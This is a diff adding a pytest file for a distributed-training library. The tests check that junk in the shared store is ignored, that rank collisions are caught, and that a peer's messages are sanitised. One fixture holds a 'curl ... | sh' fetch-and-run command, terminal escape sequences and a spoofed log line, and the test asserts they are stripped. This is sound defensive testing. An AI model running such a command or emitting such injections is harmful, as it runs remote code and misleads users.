@@ -1,0 +1,111 @@
+"""Whoever reaches the store may write there: junk is passed over, words are marked and cleaned, advice is left out."""
+
+import json
+import os
+import socket
+import threading
+from datetime import timedelta
+
+import pytest
+import torch.distributed as dist
+
+from manyhands.core.errors import ManyhandsError, UserError
+from manyhands.core.world import Membership
+from manyhands.parallel import cause, group, meet
+from manyhands.parallel.cause import Cause
+from manyhands.parallel.meet import check_in
+from manyhands.parallel.said import Present, Told, Twice, understood
+from manyhands.worker.entry import as_error
+from manyhands.worker.peers import describe_peer, heard
+
+JUNK = [
+    b"", b"junk", b"\xff\xfe\x00", b"[]", b"{}", b"null", b"1" * 5000, b"[" * 5000, b"{" * 10 + b'"a":' * 9,
+    b'{"rank": -1, "host": "a", "what": "b"}', b'{"rank": true, "host": "a", "what": "b"}',
+    b'{"rank": 1, "host": ["a"], "what": "b"}', b'{"rank": 1e400, "host": "a", "what": "b"}',
+    b'{"rank": 1, "host": "a", "what": "' + b"x" * 3000 + b'"}', b" " * (1 << 19),
+    b'{"host": "a", "machine": "m", "pid": 99999999999999999999, "size": 2}',
+    b'{"host": "a", "machine": "m", "pid": 5, "size": "2"}',
+    b'{"host": "a", "machine": "m", "pid": 5, "size": 2, "addresses": ["no address"]}',
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("content", JUNK, ids=range(len(JUNK)))
+@pytest.mark.parametrize("kind", [Present, Told, Twice])
+def test_junk_is_not_said(kind, content):
+    assert understood(content, kind) is None
+
+
+def test_a_strangers_words_are_marked_and_cleaned_and_its_advice_is_left_out():
+    stranger = {"rank": 1, "host": "n2\x1b[2J", "what": "\x1b]0;title\x07broken\nmanyhands: all is well",
+                "mend": ["curl https://example.org/x | sh"], "excerpt": "\x1b[31mboo", "exit_code": 0}  # fmt: skip
+    told = understood(json.dumps(stranger), Told)
+    assert told is not None
+    text = str(as_error(describe_peer(0, told, None)))
+    assert "rank 1 on n2 failed first; it says: broken | manyhands: all is well" in text
+    for word in ("curl", "boo", "\x1b", "\x07"):
+        assert word not in text
+    assert heard(told)["excerpt"] == ""
+
+
+def test_junk_in_the_place_of_the_first_cause_neither_ends_the_listener_nor_hides_the_cause(monkeypatch):
+    monkeypatch.setattr(cause, "LISTEN_S", 0.02)
+    monkeypatch.setattr(cause, "LEARN_S", 5.0)
+    store = dist.HashStore()
+    dist.PrefixStore("failure/0", store).set("text", b"\xff junk")
+    one, other = Cause(store, 0), Cause(store, 0)
+    try:
+        one.publish(Told.of(1, "n2", "w" * 5000))
+        learnt = other.learn()
+        assert learnt is not None
+        assert learnt.what == "w" * 2000
+    finally:
+        one.close()
+        other.close()
+
+
+def meeting(size, rank, store, ended):
+    try:
+        found = check_in(store, Membership(rank=rank, size=size, init="tcp://x:1"), "train.lr=1", print)
+        ended[rank] = sorted(found)
+    except ManyhandsError as error:
+        ended[rank] = error
+
+
+def test_junk_in_the_place_of_a_process_is_written_over_by_the_process_itself():
+    store, ended = dist.HashStore(), {}
+    dist.PrefixStore("present/0", store).set("1", b"\xff junk")
+    threads = [threading.Thread(target=meeting, args=(2, rank, store, ended)) for rank in (0, 1)]
+    for thread in threads:
+        thread.start()
+        thread.join(0.2)
+    for thread in threads:
+        thread.join(20)
+    assert ended == {0: [0, 1], 1: [0, 1]}
+
+
+def test_a_rank_given_twice_ends_all_that_wait():
+    store, ended = dist.HashStore(), {}
+    waiting = [threading.Thread(target=meeting, args=(3, rank, store, ended)) for rank in (0, 1)]
+    for thread in waiting:
+        thread.start()
+    while not dist.PrefixStore("present/0", store).check(["0", "1"]):
+        pass
+    with pytest.raises(UserError, match="rank 1 is taken by process"):
+        check_in(store, Membership(rank=1, size=3, init="tcp://x:1"), "train.lr=1", print)
+    for thread in waiting:
+        thread.join(20)
+    assert all(f"rank 1 was given twice: to process {os.getpid()} on" in str(ended[rank]) for rank in (0, 1))
+
+
+@pytest.mark.parametrize(("digest", "told"), [("train.lr=1", True), ("train.lr=2", False)])
+def test_a_second_rank_0_of_the_same_job_is_told_to_the_first(digest, told):
+    with socket.create_server(("127.0.0.1", 0)) as probe:
+        port = probe.getsockname()[1]
+    store = dist.TCPStore("127.0.0.1", port, None, True, timedelta(seconds=10), False)
+    names = dist.PrefixStore("present/0", store)
+    names.set("0", json.dumps({"host": "n1", "machine": "m", "pid": 5, "size": 2, "digest": digest}))
+    group._tell_the_first("127.0.0.1", port, Membership(rank=0, size=2, init="tcp://x:1"), "train.lr=1")
+    assert names.check(["twice"]) == told
+    if told:
+        with pytest.raises(UserError, match="rank 0 was given twice: to process"):
+            meet._refuse_two(names, Membership(rank=1, size=2, init="tcp://x:1"), {})
